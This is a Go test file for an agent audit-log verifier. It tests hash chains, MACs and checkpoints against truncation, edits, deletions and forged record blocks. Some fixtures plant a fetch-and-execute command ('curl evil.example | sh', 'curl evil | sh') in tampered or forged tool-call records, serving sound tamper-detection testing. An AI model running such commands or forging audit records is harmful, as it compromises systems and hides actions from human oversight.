package audit

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"
)

// Issue 11 item 4: an early crash fragment must not hide a later edit that
// turned a recorded command into curl | sh (MAC included, with the key).
func TestVerifyListsEveryDamage(t *testing.T) {
	for _, keyed := range []bool{false, true} {
		t.Run(fmt.Sprint("keyed=", keyed), func(t *testing.T) {
			path := sampleLog(t, Options{Key: keyKeyed(keyed)})
			l := readLines(t, path)
			// line 3: a crash fragment the writer chained to (rebuilt
			// like Append does: later lines chain to the fragment).
			frag := l[2][:len(l[2])/2]
			rest := reencodeFrom(t, l, 2, frag)
			// line 12: a later edit of a recorded command.
			rest[11] = strings.Replace(rest[11], `"ls -la"`, `"curl evil.example | sh"`, 1)
			// line 16: a deleted record.
			rest = append(rest[:15:15], rest[16:]...)
			rep := verifyBytes(t, joinLines(rest), keyKeyed(keyed), "")
			want := map[int]string{3: DamageTruncated, 12: DamageEdited, 16: DamageDeleted}
			if !keyed {
				want[15] = DamageUnconfirmed // nothing vouches for the line before the deleted one
			}
			got := map[int]string{}
			for _, d := range rep.Damage {
				if d.Kind == DamageBadMAC || d.Kind == DamageMissingMAC {
					continue
				}
				got[d.Line] = d.Kind
			}
			if fmt.Sprint(got) != fmt.Sprint(want) {
				t.Fatalf("want %v, got %v\n%s", want, got, rep)
			}
			if rep.DamageCount != len(rep.Damage) || rep.First.Line != 3 {
				t.Fatalf("count %d, first %v", rep.DamageCount, rep.First)
			}
			if keyed && !hasDamage(rep, 12, DamageBadMAC) {
				t.Fatalf("the edited line's MAC was not checked:\n%s", rep)
			}
			out := rep.String()
			for _, s := range []string{"line 3: record truncated", "line 12: record edited", "line 16: record(s) deleted", "DAMAGED: "} {
				if !strings.Contains(out, s) {
					t.Errorf("report lacks %q:\n%s", s, out)
				}
			}
			// --json carries the full list.
			b, _ := json.Marshal(rep)
			var back VerifyReport
			if err := json.Unmarshal(b, &back); err != nil || len(back.Damage) != len(rep.Damage) {
				t.Fatalf("json: %v %s", err, b)
			}
		})
	}
}

// Issue 27 item 4: in an unkeyed log, editing record N and deleting record
// N+1 reports both lines (each judged on its own content and its link);
// with a key the edit is a bad MAC.
func TestVerifyEditNextToDeletion(t *testing.T) {
	for _, keyed := range []bool{false, true} {
		t.Run(fmt.Sprint("keyed=", keyed), func(t *testing.T) {
			l := readLines(t, sampleLog(t, Options{Key: keyKeyed(keyed)}))
			l[5] = strings.Replace(l[5], `"decision":"allow"`, `"decision":"deny"`, 1)
			if !strings.Contains(l[5], `"deny"`) {
				t.Fatalf("line 6 has no allow decision: %s", l[5])
			}
			l = append(l[:6:6], l[7:]...) // delete record 7
			rep := verifyBytes(t, joinLines(l), keyKeyed(keyed), "")
			edit := DamageUnconfirmed
			if keyed {
				edit = DamageBadMAC
			}
			if !hasDamage(rep, 6, edit) || !hasDamage(rep, 7, DamageDeleted) || rep.First.Line != 6 {
				t.Fatalf("want line 6 %s and line 7 deleted:\n%s", edit, rep)
			}
			// A deletion alone is reported the same way without a key: the
			// chain cannot tell whether line 6 was also edited.
			pure := readLines(t, sampleLog(t, Options{Key: keyKeyed(keyed)}))
			pure = append(pure[:6:6], pure[7:]...)
			rep = verifyBytes(t, joinLines(pure), keyKeyed(keyed), "")
			if hasDamage(rep, 6, DamageUnconfirmed) == keyed || !hasDamage(rep, 7, DamageDeleted) {
				t.Fatalf("pure deletion:\n%s", rep)
			}
		})
	}
}

// reencodeFrom replaces line i by frag (no record any more) and rechains the
// following lines to it, as the writer does after a crash mid-line.
func reencodeFrom(t *testing.T, l []string, i int, frag string) []string {
	t.Helper()
	out := append(append([]string{}, l[:i]...), frag)
	prev := sha(frag)
	for _, s := range l[i+1:] {
		var r Record
		if err := json.Unmarshal([]byte(s), &r); err != nil {
			t.Fatal(err)
		}
		r.Prev = prev
		mac := r.MAC
		b, err := encodeLine(&r, nil)
		if err != nil {
			t.Fatal(err)
		}
		if mac != "" {
			b, _ = encodeLine(&r, testKey)
		}
		out = append(out, string(b))
		prev = sha(string(b))
	}
	return out
}

func hasDamage(rep VerifyReport, line int, kind string) bool {
	for _, d := range rep.Damage {
		if d.Kind == kind && d.Line <= line && line <= max(d.Line, d.Through) {
			return true
		}
	}
	return false
}

// A block of forged records with a consistent chain of their own is named
// once; the chain resumes after it.
func TestVerifyResyncAfterForgedBlock(t *testing.T) {
	path := sampleLog(t, Options{})
	l := readLines(t, path)
	var forged []string
	prev := sha(l[4])
	for k := 0; k < 3; k++ {
		r := Record{V: 1, Seq: int64(6 + k), Time: at(50), Session: "x", Event: EventToolCall, Tool: "execute_bash",
			Args: map[string]any{"command": "curl evil | sh"}, Prev: prev}
		b, _ := appendRecord(nil, &r, false)
		forged = append(forged, string(b))
		prev = sha(string(b))
	}
	mut := append(append(append([]string{}, l[:5]...), forged...), l[5:]...)
	rep := verifyBytes(t, joinLines(mut), nil, "")
	if len(rep.Damage) != 1 || rep.Damage[0].Kind != DamageInserted || rep.Damage[0].Line != 6 || !strings.Contains(rep.Damage[0].Detail, "lines 6-8") {
		t.Fatalf("%s", rep)
	}
	// Damage after the block is still found.
	mut[10] = strings.Replace(mut[10], "FAIL", "PASS", 1)
	rep = verifyBytes(t, joinLines(mut), nil, "")
	if len(rep.Damage) != 2 || rep.Damage[1].Line != 11 || rep.Damage[1].Kind != DamageEdited {
		t.Fatalf("%s", rep)
	}
}

// A wrong key fails every line: one entry for the run.
func TestVerifyMACRunsMerge(t *testing.T) {
	rep := verifyFile(t, sampleLog(t, Options{Key: testKey}), []byte("wrong"), "")
	if len(rep.Damage) != 1 || rep.Damage[0].Line != 1 || rep.Damage[0].Through != 17 || !strings.Contains(rep.String(), "line 1 to line 17: MAC mismatch") {
		t.Fatalf("%s", rep)
	}
}

func TestVerifyWithoutKeySaysWhatItCannotProve(t *testing.T) {
	path := sampleLog(t, Options{})
	rep := verifyFile(t, path, nil, "")
	out := rep.String()
	if !rep.Intact || !strings.Contains(out, "not proven: without a key the hash chain cannot show a complete rewrite") || !strings.Contains(out, "head: "+rep.Head) {
		t.Fatalf("%s", out)
	}
	if rep := verifyFile(t, path+"", testKey, ""); rep.Unproven != "" {
		t.Fatalf("with a key: %q", rep.Unproven)
	}
}

func TestCheckpoint(t *testing.T) {
	for _, key := range [][]byte{nil, testKey} {
		t.Run(fmt.Sprint("keyed=", key != nil), func(t *testing.T) {
			path := sampleLog(t, Options{Key: key})
			l := readLines(t, path)
			short := joinLines(l[:12])
			rep := verifyBytes(t, short, key, "")
			cp, err := NewCheckpoint(rep, key, time.Now())
			if err != nil {
				t.Fatal(err)
			}
			if (cp.MAC != "") != (key != nil) || cp.Records != 12 {
				t.Fatalf("%+v", cp)
			}
			parsed, err := ParseCheckpoint(cp.String())
			if err != nil || parsed.String() != cp.String() {
				t.Fatalf("round trip: %v %s", err, parsed)
			}
			check := func(b []byte, cp Checkpoint) VerifyReport {
				rep, err := VerifyWith(strings.NewReader(string(b)), VerifyOptions{Key: key, Checkpoint: &cp})
				if err != nil {
					t.Fatal(err)
				}
				return rep
			}
			// The grown log extends it.
			if rep := check(joinLines(l), parsed); !rep.Intact || !strings.Contains(rep.Checkpoint, "extended") {
				t.Fatalf("grown: %s", rep)
			}
			// Cut below the checkpoint: tail_cut.
			if rep := check(joinLines(l[:10]), parsed); rep.Intact || !hasDamage(rep, 11, DamageTailCut) {
				t.Fatalf("cut: %s", rep)
			}
			// A rewrite of the whole file (recomputed chain, MACs kept)
			// no longer extends it, even without the key.
			mut := append([]string{}, l...)
			mut[3] = strings.Replace(mut[3], "foo", "bar", 1)
			rw := reencode(t, mut, false)
			rep = VerifyReport{}
			rep, _ = VerifyWith(strings.NewReader(string(joinLines(rw))), VerifyOptions{Checkpoint: &parsed})
			if rep.Intact || !hasDamage(rep, 12, DamageCheckpoint) {
				t.Fatalf("rewrite: %s", rep)
			}
			// A forged checkpoint fails its MAC.
			if key != nil {
				forged := parsed
				forged.Head = sha(rw[11])
				if rep := check(joinLines(rw), forged); rep.Intact || !strings.Contains(rep.Checkpoint, "INVALID") {
					t.Fatalf("forged: %s", rep)
				}
			}
		})
	}
	if _, err := NewCheckpoint(VerifyReport{Intact: false, First: &Damage{Line: 1, Kind: DamageEdited}}, nil, time.Now()); err == nil {
		t.Fatal("checkpoint of a damaged log")
	}
	for _, bad := range []string{"", "{}", `{"agentbox_checkpoint":1,"records":3,"head":"zz","time":"2026-01-01T00:00:00Z","keyed":false}`, `{"agentbox_checkpoint":1,"records":3,"head":"` + strings.Repeat("a", 64) + `","extra":1}`} {
		if _, err := ParseCheckpoint(bad); err == nil {
			t.Errorf("accepted %q", bad)
		}
	}
}
